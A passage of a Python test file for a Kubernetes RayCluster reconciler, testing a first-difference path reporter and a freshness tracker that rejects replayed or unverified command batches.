        assert isinstance(check(world.key, world.objects, PatchObject(target=ref, patch=body)), str)


def test_first_difference_names_the_path() -> None:
    assert first_difference("spec", {"a": [1, {"b": 2}]}, {"a": [1, {"b": 2}]}) == ""
    assert first_difference("spec", {"a": [1, {"b": 3}]}, {"a": [1, {"b": 2}]}) == "spec.a[1].b is 3, not 2"
    assert first_difference("spec", {"a": [1, 2]}, {"a": [1]}) == "spec.a[1] 2 is not derived from the custom resource"
    assert first_difference("spec", {"a": 1.0}, {"a": 1}) == ""  # the same JSON number to the API server
    assert first_difference("spec", {}, {"a": 1}) == "spec.a is missing"


# --- freshness -------------------------------------------------------------------------------------

KEY = ReconcileKey(kind="RayCluster", namespace="default", name="rc")


def batch(revision: int, *, report: str = "", commands: tuple[Command, ...] = ()) -> CommandBatch:
    return CommandBatch(
        id=f"b{revision}", key=KEY, issued_at=AT, commands=commands, snapshot_revision=revision, report=report
    )


def test_a_replayed_decision_is_refused() -> None:
    fresh = Freshness()
    assert fresh.problem(batch(10)) == ""
    fresh.applied(batch(10), verified=True)
    assert fresh.problem(batch(10)) == ""  # the same decision again (a redelivery, a part)
    assert fresh.problem(batch(12)) == ""
    fresh.applied(batch(12), verified=True)
    assert "a replayed decision: batch b10 was decided on revision 10, before revision 12" in fresh.problem(batch(10))
    other = ReconcileKey(kind="RayCluster", namespace="default", name="other")
    assert fresh.problem(CommandBatch(id="o", key=other, issued_at=AT, commands=(), snapshot_revision=1)) == ""


def test_an_unverified_revision_is_not_remembered_and_reports_are_no_decisions() -> None:
    fresh = Freshness()
    fresh.applied(batch(10**9), verified=False)  # a forged far-future revision the facts never reached
    assert fresh.newest(KEY) == 0 and fresh.problem(batch(5)) == ""
    fresh.applied(batch(5), verified=True)
    regarding = ObjectRef(api_version="ray.io/v1", kind="RayCluster", namespace="default", name="rc")
    event = EmitEvent(regarding=regarding, event_type="Warning", reason="R", message="m")
    assert fresh.problem(batch(0, report="dead-lettered", commands=(event,))) == ""
    fresh.applied(batch(0, report="dead-lettered", commands=(event,)), verified=True)
    assert fresh.newest(KEY) == 5


def test_the_memory_is_bounded() -> None:
    fresh = Freshness(remembered=2)
    for name in ("a", "b", "c"):
        key = ReconcileKey(kind="RayCluster", namespace="default", name=name)
        fresh.applied(CommandBatch(id=name, key=key, issued_at=AT, commands=(), snapshot_revision=7), verified=True)
    assert [fresh.newest(ReconcileKey(kind="RayCluster", namespace="default", name=n)) for n in "abc"] == [0, 7, 7]
